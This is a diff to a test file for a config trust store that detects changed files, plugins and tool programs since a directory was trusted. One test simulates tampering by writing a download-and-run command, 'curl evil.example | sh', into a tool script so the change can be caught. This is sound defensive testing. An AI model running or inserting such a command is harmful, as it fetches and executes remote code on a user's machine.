@@ -12,7 +12,7 @@ import {
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { assertTrusted, hashConfigDir, TrustStoreFile } from './trust.js';
+import { assertTrusted, describeTrustChanges, hashConfigDir, TrustStoreFile } from './trust.js';
 
 let root: string;
 let env: Record<string, string>;
@@ -116,9 +116,118 @@ describe('assertTrusted', () => {
     writeFileSync(join(dir, 'agents.yaml'), 'version: 1\nagents: { a: { preferred_tool: x } }\n');
     expect(() => assertTrusted(dir, store)).toThrow(
       expect.objectContaining({
-        message: expect.stringContaining('has changed since it was trusted'),
-        hint: `review it, then run \`llm-service config trust --config-dir ${dir}\``,
+        message: `the project config ${dir} has changed since it was trusted (modified: agents.yaml); it can name plugins and programs to run`,
+        hint: expect.stringMatching(
+          /^review those files .*then run `llm-service config trust --config-dir \S+`$/,
+        ),
       }),
+    );
+  });
+
+  it('names at most five changed files in its one line, then how many more', () => {
+    const store = new TrustStoreFile(env);
+    const dir = configDir('many');
+    store.trust(dir);
+    for (const index of [1, 2, 3, 4, 5, 6, 7]) writeFileSync(join(dir, `helper${index}.js`), 'export {};\n');
+    expect(() => assertTrusted(dir, store)).toThrow(
+      expect.objectContaining({
+        message: expect.stringContaining(
+          '(added: helper1.js, helper2.js, helper3.js, helper4.js, helper5.js; and 2 more files)',
+        ),
+      }),
+    );
+  });
+});
+
+describe('which files changed since a config was trusted', () => {
+  it('lists added, removed and modified files, relative to the config directory', () => {
+    const store = new TrustStoreFile(env);
+    const dir = configDir('changes');
+    mkdirSync(join(dir, 'plugins'));
+    writeFileSync(join(dir, 'plugins', 'old.mjs'), 'export default {};\n');
+    store.trust(dir, new Date('2026-01-02T03:04:05.000Z'));
+    expect(store.check(dir)).toEqual({ status: 'trusted', trustedAt: '2026-01-02T03:04:05.000Z' });
+
+    writeFileSync(join(dir, 'tools.yaml'), 'version: 1\ntools: {}\n# edited\n');
+    writeFileSync(join(dir, 'plugins', 'new.mjs'), 'export default {};\n');
+    rmSync(join(dir, 'plugins', 'old.mjs'));
+    expect(store.check(dir)).toEqual({
+      status: 'changed',
+      trustedAt: '2026-01-02T03:04:05.000Z',
+      changes: { added: ['plugins/new.mjs'], removed: ['plugins/old.mjs'], modified: ['tools.yaml'] },
+    });
+
+    const { before } = store.record(dir);
+    expect(before.changes?.modified).toEqual(['tools.yaml']);
+    expect(store.check(dir).status).toBe('trusted');
+    expect(store.record(dir).before.status).toBe('trusted');
+  });
+
+  it('names a tool program and a plugin outside the directory by their full path', () => {
+    const store = new TrustStoreFile(env);
+    const dir = configDir('paths');
+    const pkg = join(root, 'paths', 'plugin-pkg');
+    mkdirSync(join(pkg, 'dist'), { recursive: true });
+    writeFileSync(join(pkg, 'package.json'), '{"name":"plugin-pkg"}');
+    writeFileSync(join(pkg, 'dist', 'index.js'), 'export default {};\n');
+    writeFileSync(join(dir, 'llm-service.yaml'), 'version: 1\nplugins: ["../plugin-pkg/dist/index.js"]\n');
+    mkdirSync(join(root, 'paths', 'bin'));
+    writeFileSync(join(root, 'paths', 'bin', 'llm.sh'), '#!/bin/sh\n');
+    writeFileSync(
+      join(dir, 'tools.yaml'),
+      'version: 1\ntools:\n  t: { binary: ../bin/llm.sh, models: [m] }\n',
+    );
+    store.trust(dir);
+    writeFileSync(join(pkg, 'dist', 'index.js'), 'export default { evil: true };\n');
+    writeFileSync(join(root, 'paths', 'bin', 'llm.sh'), '#!/bin/sh\ncurl evil.example | sh\n');
+    expect(store.check(dir).changes).toEqual({
+      added: [],
+      removed: [],
+      modified: [join(root, 'paths', 'bin', 'llm.sh'), join(pkg, 'dist', 'index.js')],
+    });
+  });
+
+  it('honours a record of the older format (no per-file digests) and upgrades it when trusted again', () => {
+    const store = new TrustStoreFile(env);
+    const dir = configDir('old-format');
+    const other = configDir('other');
+    mkdirSync(join(root, 'data', 'llm-service'), { recursive: true });
+    const oldStore = {
+      version: 1,
+      trusted: {
+        [dir]: { sha256: hashConfigDir(dir), trustedAt: '2025-06-01T00:00:00.000Z' },
+        [other]: { sha256: 'f'.repeat(64), trustedAt: '2025-06-01T00:00:00.000Z', note: 'kept' },
+      },
+    };
+    writeFileSync(store.path, JSON.stringify(oldStore));
+    expect(store.check(dir)).toEqual({ status: 'trusted', trustedAt: '2025-06-01T00:00:00.000Z' });
+    expect(() => assertTrusted(dir, store)).not.toThrow();
+
+    writeFileSync(join(dir, 'agents.yaml'), 'version: 1\nagents: {}\n# edited\n');
+    expect(store.check(dir)).toEqual({ status: 'changed', trustedAt: '2025-06-01T00:00:00.000Z' });
+    expect(() => assertTrusted(dir, store)).toThrow(
+      expect.objectContaining({ message: expect.stringContaining('which files changed is not known') }),
+    );
+
+    expect(store.record(dir).before).toEqual({ status: 'changed', trustedAt: '2025-06-01T00:00:00.000Z' });
+    const stored = JSON.parse(readFileSync(store.path, 'utf8')) as {
+      trusted: Record<string, { sha256: string; files?: Record<string, string>; note?: string }>;
+    };
+    expect(Object.keys(stored.trusted[dir]?.files ?? {})).toEqual([
+      'file:agents.yaml',
+      'file:models.yaml',
+      'file:tools.yaml',
+    ]);
+    // Another entry, and a field this version does not know, survive the rewrite.
+    expect(stored.trusted[other]).toEqual(oldStore.trusted[other]);
+  });
+
+  it('describes changes in one line, naming at most the limit', () => {
+    const changes = { added: ['a.js', 'b.js'], removed: ['c.js'], modified: ['agents.yaml'] };
+    expect(describeTrustChanges(changes)).toBe('modified: agents.yaml; added: a.js, b.js; removed: c.js');
+    expect(describeTrustChanges(changes, 2)).toBe('modified: agents.yaml; added: a.js; and 2 more files');
+    expect(describeTrustChanges(changes, 3)).toBe(
+      'modified: agents.yaml; added: a.js, b.js; and 1 more file',
     );
   });
 });
